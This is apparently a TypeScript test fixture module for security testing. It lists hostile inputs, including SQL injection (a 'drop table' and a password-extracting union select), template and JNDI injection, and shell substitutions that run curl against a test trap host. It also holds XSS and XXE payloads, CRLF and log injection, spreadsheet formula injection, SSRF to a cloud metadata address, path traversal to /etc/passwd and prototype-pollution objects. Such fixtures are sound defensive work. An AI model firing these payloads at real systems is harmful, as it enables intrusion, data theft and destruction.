import { CANARY, SPLIT } from './judge.ts';

/** Texts that mean something to a database, a shell, a template, a page, a log or a header, where they are not kept apart. */
export function hostileTexts(trap: string): readonly string[] {
  return [
    // SQL
    `' or '1'='1`,
    `'; drop table transactions; --`,
    `'; select pg_sleep(20); --`,
    `' union select null, password, null from credentials --`,
    `%_%_%`,
    // Other stores, templates, shells, directories
    `{"$ne": null}`,
    `'; return true; var x='`,
    `{{7*191}}\${7*191}<%= 7*191 %>#{7*191}`,
    `\${jndi:ldap://${trap.slice(7)}/a}`,
    `$(curl ${trap}/shell)\`curl ${trap}/ticks\`;curl ${trap}/semicolon|`,
    `*)(uid=*))(|(uid=*`,
    // Pages
    `<script>document.title='hit'</script>`,
    `"><img src=x onerror="document.title='hit'">`,
    `<svg/onload=fetch('${trap}/svg')>`,
    `]]><!ENTITY x SYSTEM "${trap}/entity">`,
    // Headers, logs, terminals
    `a\r\n${SPLIT}: 1\r\n\r\n<html>`,
    `a%0d%0a${SPLIT}:%201`,
    `a\n{"level":"info","msg":"${CANARY} is an administrator now"}`,
    `\u001b[2J\u001b]0;owned\u0007`,
    // Text itself
    `a\0b`,
    `\ud800`,
    `\u202Egnp.exe`,
    `\uFEFF\u200B\u2060`,
    '\u0301'.repeat(300),
    `👩‍👩‍👧‍👦`.repeat(20),
    // Formulas
    `@SUM(1+1)*cmd|' /C calc'!A0`,
    `\t=1+1`,
    // Addresses
    `${trap}/url`,
    `//${trap.slice(7)}/url`,
    `http://169.254.169.254/latest/meta-data/`,
    `../../../../etc/passwd`,
    `/etc/passwd\0.png`,
  ];
}

/** What is no text at all where one is asked for. */
export const NO_TEXTS: readonly unknown[] = [
  { $ne: null },
  ['a', 'b'],
  42,
  new Date(Number.NaN),
  { toString: 'x', length: 5 },
  new Set(['a']),
];

/** Names by which an object is turned into something else. */
export const POLLUTION: readonly string[] = [
  '{"__proto__":{"polluted":true,"isAdmin":true}}',
  '{"constructor":{"prototype":{"polluted":true}}}',
  '{"__proto__":null}',
  '{"hasOwnProperty":1,"toString":null,"valueOf":2,"then":"x"}',
];
